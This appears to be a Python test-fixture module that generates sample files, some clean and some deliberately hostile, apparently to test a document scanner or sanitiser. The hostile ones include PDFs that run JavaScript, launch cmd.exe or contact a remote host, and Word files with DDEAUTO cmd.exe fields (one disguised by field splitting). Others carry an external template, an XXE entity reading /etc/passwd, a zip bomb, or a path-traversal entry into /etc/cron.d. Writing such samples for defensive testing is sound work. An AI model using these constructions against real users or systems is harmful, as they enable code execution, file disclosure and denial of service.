"""Small documents made on the spot: honest ones, and others."""

from __future__ import annotations

import io
import zipfile
from functools import cache

from docx import Document
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

SHELTER = (52.3702, 4.8952)  # what a phone writes into a photo


def pdf(text="leeg"):
    made = PdfWriter()
    made.add_blank_page(200, 200)
    made.add_metadata({"/Subject": text})
    return written(made)


def written(made):
    out = io.BytesIO()
    made.write(out)
    return out.getvalue()


def pdf_with_script(name="/JavaScript"):
    made = PdfWriter()
    made.add_blank_page(200, 200)
    made._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hallo')"),
        }
    )
    return written(made).replace(b"/JavaScript", name.encode())


def pdf_with_file():
    made = PdfWriter()
    made.add_blank_page(200, 200)
    made.add_attachment("x.exe", b"MZ")
    return written(made)


def pdf_that_launches():
    made = PdfWriter()
    made.add_blank_page(200, 200)
    made._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    return written(made)


def pdf_with_password():
    made = PdfWriter()
    made.add_blank_page(200, 200)
    made.encrypt("geheim", algorithm="AES-256")
    return written(made)


def photo(kind="JPEG", size=(40, 30)):
    """With the coordinates of a shelter in it, as a phone makes it."""
    exif = Image.Exif()
    exif[0x010F] = "Telefoonmaker"
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 22.0, 12.7), 3: "E", 4: (4.0, 53.0, 42.7)})
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 60)).save(out, kind, exif=exif)
    return out.getvalue()


@cache
def docx(text="Hallo"):
    document = Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def changed_docx(more=(), instead=()):
    """A document of Word with parts added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            for wanted, change in instead:
                if name == wanted:
                    content = change(content)
            new.writestr(name, content)
        for name, content in more:
            new.writestr(name, content)
    return out.getvalue()


def docx_with_macro():
    return changed_docx(more=[("word/vbaProject.bin", b"macro")])


def docm():
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return changed_docx(
        instead=[
            (
                "[Content_Types].xml",
                lambda old: old.replace(kind, b"application/vnd.ms-word.document.macroEnabled.main+xml"),
            )
        ]
    )


def docx_that_fetches_a_template():
    there = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.org/x.dotm" TargetMode="External"/></Relationships>'
    return changed_docx(
        instead=[("word/_rels/document.xml.rels", lambda old: old.replace(b"</Relationships>", there))]
    )


def docx_with_a_dde_field():
    field = b"<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p><w:sectPr"
    return changed_docx(instead=[("word/document.xml", lambda old: old.replace(b"<w:sectPr", field, 1))])


def docx_with_two_fields():
    """The first field ends without a space, so that the two look like one long word."""
    mark = b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    code = b"<w:r><w:instrText>%s</w:instrText></w:r>"
    fields = [mark % b"begin" + code % words + mark % b"end" for words in (b"PAGE", b"DDEAUTO c:\\\\cmd.exe")]
    paragraph = b"<w:p>" + b"".join(fields) + b"</w:p><w:sectPr"
    return changed_docx(instead=[("word/document.xml", lambda old: old.replace(b"<w:sectPr", paragraph, 1))])


def docx_whose_text_lies_elsewhere():
    """Word follows the relation, whatever the part is called."""
    evil = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:body></w:document>'
    return changed_docx(
        more=[("tekst/inhoud.dat", evil)],
        instead=[("_rels/.rels", lambda old: old.replace(b"word/document.xml", b"tekst/inhoud.dat"))],
    )


def docx_related_to(kind):
    """With a part of a kind that Word runs or takes in unseen, under an innocent name."""
    there = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="foto.dat"/></Relationships>'
    return changed_docx(
        more=[("word/foto.dat", b"<html><img src='http://example.org/x'></html>")],
        instead=[
            (
                "word/_rels/document.xml.rels",
                lambda old: old.replace(b"</Relationships>", there % kind.encode()),
            )
        ],
    )


def odt_with(element):
    """A text document with one element of choice in it."""
    names = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<office:document-content xmlns:office="{names}:office:1.0" xmlns:text="{names}:text:1.0"'
        f' xmlns:draw="{names}:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body>{element}'
        "</office:body></office:document-content>"
    )
    return odt(content=content)


def pdf_that_goes_elsewhere():
    """Opening it asks another computer for a file, and shows who one is."""
    made = PdfWriter()
    made.add_blank_page(200, 200)
    made._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject("//example.org/a.pdf")}
    )
    return written(made)


def docx_with_an_entity():
    return changed_docx(
        instead=[
            (
                "word/document.xml",
                lambda old: old.replace(
                    b"?>", b'?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', 1
                ),
            )
        ]
    )


def docx_bomb():
    """A hundred megabytes of nothing in a hundred kilobytes."""
    return changed_docx(more=[("word/media/zero.txt", b"\0" * 100_000_000)])


def docx_that_wanders():
    return changed_docx(more=[("../../etc/cron.d/x", b"x")])


def odt(more=(), content="<office xmlns='urn:x'>Hallo</office>"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        made.writestr("content.xml", content)
        for name, content in more:
            made.writestr(name, content)
    return out.getvalue()


def zipped():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("x.txt", "x")
    return out.getvalue()
